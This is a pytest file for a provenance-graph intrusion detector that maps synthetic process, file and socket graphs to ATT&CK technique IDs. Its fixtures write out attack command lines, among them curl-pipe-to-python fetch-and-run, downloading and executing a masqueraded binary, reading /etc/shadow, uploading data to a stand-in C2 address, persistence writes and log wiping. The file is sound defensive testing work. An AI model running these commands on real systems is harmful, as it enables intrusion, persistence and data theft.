from __future__ import annotations

from collections.abc import Collection

import msgspec

from provarmor.graph.records import Edge, Node, NodeKind
from provarmor.investigation.knowledge import (
    GraphView,
    find_techniques,
    is_contacted_endpoint,
    program_known,
)


def process(pid: int, exe: str, command: str = "", user: str = "1000") -> Node:
    return Node(
        id=f"p{pid}",
        kind=NodeKind.PROCESS,
        host="h",
        first_ts=pid,
        last_ts=pid,
        label=exe,
        pid=pid,
        executable=exe,
        command_line=command or exe,
        user=user,
    )


def file(path: str) -> Node:
    return Node(
        id=f"f:{path}", kind=NodeKind.FILE, host="h", first_ts=0, last_ts=0, label=path, path=path
    )


def endpoint(ip: str, port: int) -> Node:
    return Node(
        id=f"s:{ip}:{port}",
        kind=NodeKind.SOCKET,
        host="h",
        first_ts=0,
        last_ts=0,
        label=f"{ip}:{port}",
        ip=ip,
        port=port,
    )


def edge(number: int, src: Node, dst: Node, action: str, ts: int) -> Edge:
    return Edge(id=number, src=src.id, dst=dst.id, action=action, first_ts=ts, last_ts=ts)


def techniques_of(nodes: list[Node], edges: list[Edge], servers: Collection[str] = ()) -> set[str]:
    view = GraphView(nodes={n.id: n for n in nodes}, edges=edges, servers=set(servers))
    return {t for finding in find_techniques(view) for t in finding.techniques}


def test_server_spawning_a_shell_is_exploitation_of_a_public_application() -> None:
    server, shell = process(1, "/usr/bin/python3"), process(2, "/bin/sh", "/bin/sh -c id")
    found = techniques_of([server, shell], [edge(1, server, shell, "fork", 5)], {server.id})
    assert {"T1190", "T1059.004"} <= found


def test_downloaded_hidden_masquerading_file_made_executable_and_run() -> None:
    curl = process(3, "/usr/bin/curl", "curl -o /tmp/.x/sshd http://10.1.1.1/a")
    chmod = process(4, "/usr/bin/chmod", "chmod +x /tmp/.x/sshd")
    agent = process(5, "/tmp/.x/sshd")
    dropped, c2 = file("/tmp/.x/sshd"), endpoint("10.1.1.1", 8000)
    edges = [
        edge(1, curl, c2, "connect", 1),
        edge(2, curl, dropped, "write", 2),
        edge(3, chmod, dropped, "chmod", 3),
        edge(4, dropped, agent, "exec", 4),
        edge(5, agent, c2, "connect", 5),
    ]
    found = techniques_of([curl, chmod, agent, dropped, c2], edges)
    assert {"T1105", "T1564.001", "T1036.005", "T1222.002", "T1071.001"} <= found


def test_credential_read_then_connection_out() -> None:
    cat, shadow, sink = process(6, "/usr/bin/cat"), file("/etc/shadow"), endpoint("10.2.2.2", 80)
    edges = [edge(1, shadow, cat, "read", 1), edge(2, cat, sink, "connect", 2)]
    assert {"T1003.008", "T1041"} <= techniques_of([cat, shadow, sink], edges)


def test_persistence_and_log_tampering_writes() -> None:
    shell = process(7, "/bin/sh")
    targets = [
        file(p)
        for p in (
            "/etc/cron.d/x",
            "/etc/systemd/system/x.service",
            "/root/.bashrc",
            "/root/.ssh/authorized_keys",
        )
    ]
    edges = [edge(i, shell, t, "write", i) for i, t in enumerate(targets, 1)]
    log, history = file("/var/log/auth.log"), file("/root/.bash_history")
    edges += [edge(10, shell, log, "truncate", 10), edge(11, shell, history, "delete", 11)]
    found = techniques_of([shell, *targets, log, history], edges)
    assert {"T1053.003", "T1543.002", "T1546.004", "T1098.004", "T1070.002", "T1070.003"} <= found


def test_archive_sent_out_scan_and_ssh_with_key() -> None:
    tar, nc = process(8, "/usr/bin/tar"), process(9, "/usr/bin/nc")
    archive, sink = file("/tmp/a.tgz"), endpoint("10.3.3.3", 9000)
    scanner = process(10, "/usr/bin/python3", "python3 scan.py")
    peers = [endpoint("10.4.4.4", port) for port in range(20, 32)]
    ssh = process(11, "/usr/bin/ssh", "ssh -i /tmp/k user@10.5.5.5")
    edges = [
        edge(1, tar, archive, "write", 1),
        edge(2, archive, nc, "read", 2),
        edge(3, nc, sink, "connect", 3),
        *(edge(10 + i, scanner, p, "connect", 10 + i) for i, p in enumerate(peers)),
    ]
    found = techniques_of([tar, nc, archive, sink, scanner, *peers, ssh], edges)
    assert {"T1560.001", "T1048.003", "T1046", "T1021.004", "T1095"} <= found


def test_privilege_gain_through_sudo() -> None:
    shell, sudo = process(12, "/bin/sh", user="33"), process(13, "/usr/bin/sudo", user="0")
    assert "T1548.003" in techniques_of([shell, sudo], [edge(1, shell, sudo, "fork", 1)])


def test_python_fed_a_script_on_standard_input_or_from_a_hidden_directory() -> None:
    piped = process(20, "/usr/bin/python3", "/usr/bin/python3 -")
    hidden = process(21, "/usr/bin/python3", "python3 /home/u/.cache/.x/run.py")
    plain = process(22, "/usr/bin/python3", "python3 /home/u/project/manage.py test")
    assert "T1059.006" in techniques_of([piped], [])
    assert "T1059.006" in techniques_of([hidden], [])
    assert "T1059.006" not in techniques_of([plain], [])


def test_web_and_dns_protocols() -> None:
    agent = process(23, "/usr/bin/python3", "/usr/bin/python3 -")
    c2, resolver = endpoint("10.6.6.6", 8443), endpoint("10.0.0.53", 53)
    web = [edge(1, agent, c2, "connect", 1)]
    assert "T1071.001" in techniques_of([agent, c2], web)
    few = Edge(id=2, src=agent.id, dst=resolver.id, action="send", first_ts=2, last_ts=2, count=2)
    assert "T1071.004" not in techniques_of([agent, resolver], [few])
    many = Edge(id=3, src=agent.id, dst=resolver.id, action="send", first_ts=2, last_ts=9, count=40)
    assert "T1071.004" in techniques_of([agent, resolver], [many])
    dig = process(24, "/usr/bin/dig", "dig x.example")
    assert "T1071.004" in techniques_of([dig, resolver], [edge(4, dig, resolver, "send", 3)])


def test_remote_system_discovery() -> None:
    reader, known = (
        process(25, "/usr/bin/cp", "cp ~/.ssh/known_hosts /tmp/k"),
        file("/home/admin/.ssh/known_hosts"),
    )
    assert "T1018" in techniques_of([reader, known], [edge(1, known, reader, "read", 1)])
    pinger = process(26, "/usr/bin/ping", "ping -c 1 10.0.0.7")
    assert "T1018" in techniques_of([pinger], [])
    sweeper = process(27, "/usr/bin/python3", "python3 scan.py")
    hosts = [endpoint(f"10.7.7.{i}", 22) for i in range(3)]
    edges = [edge(i, sweeper, h, "connect", i) for i, h in enumerate(hosts, 1)]
    assert "T1018" in techniques_of([sweeper, *hosts], edges)


def test_upload_to_the_host_the_code_came_from_is_exfiltration_over_c2() -> None:
    shell = process(28, "/bin/sh", "sh -c curl -s http://10.8.8.8:8443/a | python3 -")
    fetch = msgspec.structs.replace(
        process(29, "/usr/bin/curl", "curl -s http://10.8.8.8:8443/a"), parent=shell.id
    )
    agent = process(30, "/usr/bin/python3", "/usr/bin/python3 -")
    upload = process(31, "/usr/bin/curl", "curl -s --data-binary @/tmp/r http://10.8.8.8:8443/u")
    c2 = endpoint("10.8.8.8", 8443)
    edges = [
        edge(1, shell, fetch, "fork", 1),
        edge(2, shell, agent, "fork", 1),
        edge(3, fetch, c2, "connect", 2),
        edge(4, upload, c2, "connect", 9),
    ]
    assert "T1041" in techniques_of([shell, fetch, agent, upload, c2], edges)
    elsewhere = endpoint("10.9.9.9", 8443)
    other = [*edges[:3], edge(5, upload, elsewhere, "connect", 9)]
    assert "T1041" not in techniques_of([shell, fetch, agent, upload, c2, elsewhere], other)


def test_interpreter_running_a_script_the_attack_wrote() -> None:
    unzip, script = process(32, "/usr/bin/unzip", "unzip s.zip"), file("/tmp/.p/scan.py")
    python = process(33, "/usr/bin/python3", "python3 scan.py 10.0.0.0/24")
    edges = [edge(1, unzip, script, "write", 1), edge(2, script, python, "open", 2)]
    assert "T1059.006" in techniques_of([unzip, script, python], edges)
    # a script nobody in the story wrote is not evidence
    assert "T1059.006" not in techniques_of([script, python], edges[1:])


def test_contacted_endpoints_are_network_peers_only():
    def socket_node(label, **values):
        return Node(
            id=label, kind=NodeKind.SOCKET, host="h", first_ts=1, last_ts=1, label=label, **values
        )

    assert is_contacted_endpoint(socket_node("10.0.0.7:443", ip="10.0.0.7", port=443))
    assert is_contacted_endpoint(socket_node("[2001:db8::1]:22", ip="2001:db8::1", port=22))
    assert not is_contacted_endpoint(socket_node("0.0.0.0:0", ip="0.0.0.0", port=0))
    assert not is_contacted_endpoint(socket_node("0.0.0.0:80", ip="0.0.0.0", port=80))
    assert not is_contacted_endpoint(
        socket_node("/var/run/nscd/socket", path="/var/run/nscd/socket")
    )
    process = Node(id="p", kind=NodeKind.PROCESS, host="h", first_ts=1, last_ts=1, label="pid 7")
    assert not is_contacted_endpoint(process)
    assert not program_known(process)
    process.executable = "/usr/bin/curl"
    assert program_known(process)
